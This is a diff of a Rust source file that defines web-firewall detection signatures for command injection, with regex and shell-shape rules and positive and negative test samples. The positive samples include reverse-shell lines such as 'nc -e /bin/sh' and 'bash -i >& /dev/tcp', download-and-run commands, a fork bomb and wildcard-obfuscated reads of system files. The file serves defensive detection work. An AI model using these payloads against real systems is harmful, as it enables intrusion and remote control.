@@ -1,13 +1,13 @@
 //! Command injection, and code injection whose aim is a command.
 
-use super::{Matcher::Regex, signatures};
+use super::{Matcher::Regex, Matcher::Shell, signatures};
 use crate::rule::Sample::Value;
+use crate::shell::ShellShape;
 
 signatures! {
     CMDI, Cmdi, attack: &["T1059", "T1190"], owasp: Some("A05:2025");
 
-    "wp.cmdi.separator" v 1, "Separator and a command", Critical 90, NotPlainAgent, gate &[";", "|", "&", "\n", "\\n", "\r", "%0a", "`", "$(", "<(", ">("],
-        Regex(r#"(?:(?:[\r\n]|\\n|%0a)\s*(?:/?(?:usr/)?s?bin/)?(?:cat|ls|id|pwd|whoami|uname|ifconfig|ipconfig|netstat|ping6?|nslookup|wget|curl|nc|ncat|netcat|bash|sh|dir|echo|type|net|phpinfo|systeminfo|env|printenv|getent|telnet|powershell|cmd)(?:\.exe)?(?:\s*$|\\n|\s*[;|&]|\s+-{1,2}\w|\s+[/~]\w|[\s+]+[a-z]:|\s+https?://)|(?:;|\|{1,2}|&{1,2}|`|\$\(|[<>]\()[\s+{(!'"\\]*(?:[\w./\\-]{0,40}[/\\])?(?:cat|ls|id|pwd|whoami|uname|ifconfig|ipconfig|netstat|ping6?|nslookup|dig|wget|curl|nc|ncat|netcat|telnet|ftp|bash|sh|zsh|ksh|csh|dash|python[\d.]*|perl|ruby|php[\d.]*|lua|node|sleep|echo|printf|dir|type|del|copy|net1?|netsh|reg|wmic|powershell|pwsh|cmd|tasklist|systeminfo|ver|set|env|printenv|export|chmod|chown|rm|cp|mv|touch|mkdir|kill|ps|top|who|w|last|finger|passwd|su|sudo|useradd|adduser|tail|head|more|less|nl|tac|grep|egrep|find|locate|xargs|awk|sed|tar|gzip|base64|openssl|ssh|scp|socat|crontab|at|getent|sysinfo|hostname|ip|arp|route|traceroute|tracert|vol|start|mail|sendmail|nmap|tcpdump|gcc|make|apt|apt-get|yum|dpkg|rpm|systemctl|service|reboot|halt|shutdown|mount|df|du|free|lsof|history|date|uptime|groups|exit|expr|phpinfo|system|exec|passthru|eval|rundll32|certutil|bitsadmin|mshta|cscript|nohup|time|timeout|watch|strings|xxd|od|rev|cut|sort|uniq|wc|diff|busybox|java|go|vi|vim|nano|ed)(?:\.exe)?(?:\s*(?:$|\\n|[;|&`)\r\n<>}#"']|%0a)|[\s+]+(?:[a-z]:|(?:user|localgroup|add|query|view|group|firewall)\s|-{1,2}[\w?]|/[\w?*]|\\?[\w.*?~-]+[/\\]|\$|%\w|["'`]|\d{1,5}(?:\D|$)|\d{1,3}\.\d{1,3}\.|[\w-]+(?:\.[\w-]+)+|[\w-]+\s+[\w-]+\.[\w.]+|(?:https?|ftp)://|\*|\{|[\w.-]+\s*(?:$|[;|&`)><]))|\s*[<>]|\(|,\w|\$ifs|\$\{?\w))"#),
+    "wp.cmdi.separator" v 2, "Separator and a command", Critical 90, NotPlainAgent, gate &[], Shell(ShellShape::Separated),
         fires [Value(";id"), Value("x | cat /etc/issue"), Value("a && wget http://x.example/s.sh"), Value("127.0.0.1;nc -e /bin/sh 10.0.0.1 4444"), Value("|getent hosts x.example"), Value("`whoami`"), Value("$(uname -a)")],
         near [Value("salt & pepper; find your taste"), Value("this | that; who knows what it is"), Value("Tom & sort of Jerry"), Value("first; then more words follow")];
     "wp.cmdi.substitution" v 1, "Command or expression substitution", High 82, Any, gate &["$(", "${", "`", "$ifs", "$'", "$\"", "$\\", "<(", "$["],
@@ -18,11 +18,26 @@ signatures! {
         Regex(r#"(?:^|[\s;|&`'"(=<>,:{])/+(?:usr/+)?(?:local/+)?s?bin/+(?:\w{0,3}sh\b|cat|ls|id|nc|ncat|netcat|ping|wget|curl|python|perl|ruby|php|whoami|uname|sleep|echo|kill|chmod|rm|tail|head|less|more|nmap|env|telnet|ps|\?|\*|who|mail|printenv|ifconfig|getent|tftp|xterm)|/[?*\w\[]*[?*][?*\w]*/[\w?*\[]*[?*]|\bcmd(?:\.exe)?\s*(?:\+|\s)*/{1,2}[ckr]\b|\bcmd\.exe\b|\b(?:powershell|pwsh)(?:\.exe)?\s+-|/dev/(?:tcp|udp)/|\(\)\s*\{\s*[:_\w\s]*;?\s*\}?\s*;|\bnc(?:at)?\s+(?:-\w+\s+)*-[ecl]\w*\b|\b(?:bash|sh)\s+-[ci]\b|\bsystem32[\\/]\w+\.exe"#),
         fires [Value("/bin/sh -c x"), Value("cmd.exe /c dir"), Value("() { :;}; echo x"), Value("bash -i >& /dev/tcp/10.0.0.1/1")],
         near [Value("the cabin/shed door"), Value("cmd key"), Value("/binary/share")];
-    "wp.cmdi.command" v 1, "A whole command line as a value", High 80, Any,
-        gate &["cat ", "ls ", "wget", "curl", "ping", "nslookup", "uname", "whoami", "ifconfig", "ipconfig", "net ", "netstat", "id", "nc ", "chmod", "rm ", "dir", "type ", "echo ", "perl", "python", "php", "ruby", "sleep", "tasklist", "systeminfo", "reg ", "systemctl", "<!--#", "pwd", "which ", "getent", "ps "],
-        Regex(r#"^['"\s]*(?:cat|tac|nl|head|tail|less|more|type)\s+(?:-\w+\s+)*[~/.$%"'][\w./$*?~%"'\\-]+\s*['"]?$|^\s*(?:wget|curl)\s+(?:-\S+\s+)*(?:https?|ftp)://\S+|^\s*ping6?\s+-[nci]\s*\d+\s|^\s*(?:whoami|ifconfig|ipconfig(?:\s*/all)?|netstat\s+-\w+|systeminfo|tasklist(?:\s*/\w+)?|uname(?:\s+-\w+)|net\s+(?:user|localgroup|view|start)(?:\s.*)?|ls\s+-\w+(?:\s.*)?|dir\s+(?:[a-z]:|/)\S*|rm\s+-\w*[rf]\w*\s.*|chmod\s+[0-7+]\S*\s+\S+|nc\s+-\S+.*|reg\s+(?:query|add|save)\s.*|echo\s+['"]?\w+['"]?\s*[>|].*|ps\s+-?aux.*|perl\s+-e\s.*|python[\d.]*\s+-c\s.*|php\s+-r\s.*|ruby\s+-\w*e\s.*)\s*$|<!--#exec\s|\bnslookup\s+[\w.$()`-]+\.\w{2,}|\b(?:wget|curl)\s+(?:-{1,2}\S+\s+)+\S+|\|\s*(?:ba|da|z)?sh\b\s*$"#),
+    "wp.cmdi.command" v 2, "A whole command line as a value", High 80, NotPlainAgent, gate &[], Shell(ShellShape::Line),
         fires [Value("cat /etc/issue"), Value("wget http://x.example/a.sh"), Value("ipconfig /all"), Value("ping -c 10 127.0.0.1"), Value("net user")],
         near [Value("cat and dog"), Value("curl your hair"), Value("ping me later"), Value("net income")];
+    "wp.cmdi.batch" v 1, "Statement of a Windows command script", High 80, NotPlainAgent, gate &[], Shell(ShellShape::Batch),
+        fires [Value("for %i in (*) do del %i"), Value("if exist c:\\boot.ini echo yes"), Value("& if \"%x%\"==\"1\" goto end")],
+        near [Value("if it exists we use it"), Value("for the record (and more)"), Value("if a == b {")];
+    "wp.cmdi.pattern" v 1, "Program or secret named by wild cards or braces", High 88, NotPlainAgent, gate &[], Shell(ShellShape::Pattern),
+        fires [Value("/b?n/c?t /e*c/h?sts"), Value("/etc/pass[w]d"), Value("{cat,/etc/issue}")],
+        near [Value("/images/*.png"), Value("{id,name}"), Value("a[0] / b[1]")];
+    "wp.cmdi.indirect" v 1, "Command put together from variables or functions", High 88, NotPlainAgent, gate &[], Shell(ShellShape::Indirect),
+        fires [Value("a=nc;$a -lvp 4444"), Value("f(){ f|f& };f"), Value("x=/etc&&y=cat&&$y $x/issue")],
+        near [Value("price=5;$10 off"), Value("f() { return 1 }"), Value("a=b;c=d")];
+    "wp.cmdi.mail" v 1, "Command of a mail protocol behind a line break", High 85, NotPlainAgent, gate &[], Shell(ShellShape::Mail),
+        fires [Value("x\r\nRCPT TO:<a@x.example>"), Value("x\r\nA1 LOGIN a b"), Value("x\r\nRETR 12")],
+        near [Value("x\r\nmail from home"), Value("a list\r\nlist of three"), Value("top\r\nto bottom")];
+    "wp.cmdi.pipe" v 1, "Download or page that is run", High 82, Any,
+        gate &["|", "wget", "curl", "<!--#", "nslookup"],
+        Regex(r#"<!--#exec\s|\bnslookup\s+[\w.$()`-]+\.\w{2,}|\b(?:wget|curl)\s+(?:-{1,2}[a-z]\S*\s+)+\S+[./]|\|\s*(?:ba|da|z)?sh\b\s*$"#),
+        fires [Value("<!--#exec cmd=\"x\"-->"), Value("x wget -q -O /tmp/a http://x.example/a"), Value("echo aWQ= | sh")],
+        near [Value("curl your hair"), Value("wget is a tool"), Value("a | shell")];
     "wp.cmdi.php" v 1, "PHP code", High 85, Any,
         gate &["<?", "phpinfo", "passthru", "shell_exec", "proc_open", "popen", "system", "eval", "assert", "base64_decode", "$_", "exec", "file_get_contents", "fopen", "include", "require", "preg_replace", "create_function", "call_user_func", "php", "var_dump", "print_r", "chr(", "die(", "o:", "allow_url", "auto_prepend", "ini_set", "array_", "globals", "gzinflate", "unserialize"],
         Regex(r#"<\?(?:php\b|=|\s*(?:echo|print|system|exec|eval|phpinfo|@?\w+\s*\())|<\?\s*$|\b(?:phpinfo|passthru|shell_exec|proc_open|popen|pcntl_exec|create_function|call_user_func(?:_array)?|base64_decode|gzinflate|gzuncompress|str_rot13|file_get_contents|file_put_contents|readfile|fsockopen|move_uploaded_file|array_(?:map|filter|diff_ukey|walk|udiff)|register_shutdown_function|show_source|highlight_file|unserialize|preg_replace_callback|ini_set|posix_\w+|opcache_\w+|parse_ini_file|escapeshell\w+|apache_setenv|putenv|proc_nice|symlink|move_uploaded|uasort|usort)\s*(?:/\*.*?\*/|//[^\n]*\n|\#[^\n]*\n|\s)*\(\s*[)'"$@\w\\]|\b(?:system|exec|eval|assert|include|require(?:_once)?|include_once|die|exit|print|echo|var_dump|print_r|fopen|unlink|opendir|popen|extract|implode)\s*(?:/\*.*?\*/|\s)*[('"]\s*\(?\s*(?:\$_(?:get|post|request|cookie|server|files|session|env)|\$\w+\s*[\[(]|['"](?:cat|ls|id|whoami|uname|dir|ping|wget|curl|nc|sleep|echo|pwd|/|\w+:\/\/)|base64_decode|phpinfo|chr\s*\()|\$_(?:get|post|request|cookie|server|files|env|session)\s*\[|\$GLOBALS\s*\[|\$\{?_(?:get|post|request)|\b[oc]:\d+:"\w|\ballow_url_(?:include|fopen)\s*=|auto_(?:prepend|append)_file\s*=|\(\s*['"]?(?:system|exec|passthru|phpinfo|shell_exec|assert|p\.h\.p)['"]?\s*\)\s*\(|\$\w+\s*=\s*['"]?(?:system|exec|passthru|shell_exec|phpinfo|assert)\b|\(['"]sys['"]\s*\.|\bchr\s*\(\s*\d+\s*\)\s*\.|\b(?:system|exec|shell_exec|passthru|popen)\s*\(\s*['"]?[\w/ .-]{2,}['"]?\s*\)\s*;"#),
